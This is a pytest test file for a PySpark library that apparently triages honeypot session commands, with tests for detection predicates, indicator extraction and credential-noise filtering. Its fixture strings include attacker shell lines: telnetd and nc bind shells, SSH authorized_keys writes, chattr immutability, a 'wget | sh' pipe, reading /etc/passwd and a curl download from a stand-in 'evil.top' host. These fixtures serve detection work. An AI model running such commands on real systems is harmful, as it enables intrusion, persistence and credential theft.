"""Literal lines for predicates, indicators, triage and credential noise; nulls and empty texts."""

from __future__ import annotations

import pytest
from pyspark.sql import functions as F

from tidewatch.functions import text as X
from tidewatch.plans.sessions import protocol_noise

FIRES = {
    "has_uname_m": (["uname -m", "x; UNAME   -m"], ["uname -a", "echo m", ""]),
    "has_case_word": (["case $a in", "x;Case y"], ["showcase", "cases", ""]),
    "has_c2_launch": (["./bot 10.0.0.1 443", "/tmp/x 1[.]2[.]3[.]4 8080", "a /tmp/x 1.2.3.4:8080"], ["bot 10.0.0.1 443", "./bot 10.0.0.1 4", "./bot host 443", ""]),
    "has_self_spread": (["telnetd -p 23 -l /bin/sh", "nc -v -l 99", "sh -s telnet", "busybox telnetd -l"], ["nc host 99", "sync -l", "telnetd & ls -l", "sh -s other", ""]),
    "has_host_info": (["w", "cat /proc/cpuinfo", "ls /tmp", "x; id", "FREE -m"], ["ls", "idle", "windows", "ls tmp", ""]),
    "has_key_write": (["echo k >> ~/.ssh/authorized_keys"], ["authorized", ""]),
    "has_immutability": (["chattr +i f", "chattr -ia f", "lockr -ia x"], ["chattr f", "lockr -a", ""]),
    "has_directory_chain": (["cd /a || cd /b || cd /c", "x; cd /a||cd /b||cd /"], ["cd /a || cd /b", "cd /a || ls || cd /c", ""]),
    "has_tool_fallback": (["busybox wget http://x", "wget u || curl u"], ["wget u | sh", "wget u", ""]),
}


def values(spark, lines, col):
    df = spark.createDataFrame([(i, x) for i, x in enumerate(lines)], "i int, c string")
    return [r.v for r in df.select("i", col(F.col("c")).alias("v")).orderBy("i").collect()]


@pytest.mark.parametrize("name", sorted(X.PREDICATES))
def test_predicates(spark, name):
    yes, no = FIRES[name]
    assert values(spark, [*yes, *no, None, "a" * 100_000], lambda c: X.predicate(c, name)) == [True] * len(yes) + [False] * (len(no) + 2)


def test_indicators(spark):
    h = "d41d8cd98f00b204e9800998ecf8427e"
    lines = [f"echo {h}", f"md5:{h}", f"echo {h} | md5sum", f"openssl  dgst {h}", None, ""]
    assert values(spark, lines, X.hashes) == [[], [h], [h], [h], None, []]
    assert values(spark, ["hxxp://Evil.example/x; smb://1.2.3.4/y", "ls"], X.domains) == [["evil.example"], []]
    assert values(spark, ["cat /etc/passwd>/tmp/x `/bin/sh` /a"], X.paths) == [["/etc/passwd", "/bin/sh"]]
    assert values(spark, ["v1.2.3.4x 1.2.3.4.5 999.1.1.1", None], X.ipv4s) == [["1.2.3.4"], None]


def test_triage_parts(spark):
    mixed, upper = "aB3" * 70, "AB" * 150
    assert values(spark, [mixed, upper, f"{mixed[:39]} x", None], X.base64_run) == [210, 0, 0, 0]
    lines = ["curl -O evil.top/x", "curl x | echo evil.top", "see http://a.evil.top/x", "echo evil.top", "ssh host.example", ""]
    assert values(spark, lines, X.rare_domain) == [True, False, True, False, False, False]


def test_credential_noise(spark):
    noise = ["GET / HTTP/1.1:Host: x", "user:rtsp://h/x", "root:User-Agent: y", "options x:y", "x:RTSP/1.0", "a:X-Forwarded-For: b"]
    real = ["root:admin", ":", "get:post", "agent:user", "http:1", "host:pw"]
    assert values(spark, noise + real, protocol_noise) == [True] * len(noise) + [False] * len(real)


def test_normalizing_is_whole(spark):
    long = "x " * 5000
    assert len(values(spark, [long], X.normalize)[0]) == 9999
    assert len(values(spark, [long], lambda c: X.normalize(c, X.COMMAND_CHARS))[0]) == X.COMMAND_CHARS
    assert values(spark, [long, "x"], X.is_cut) == [True, False]
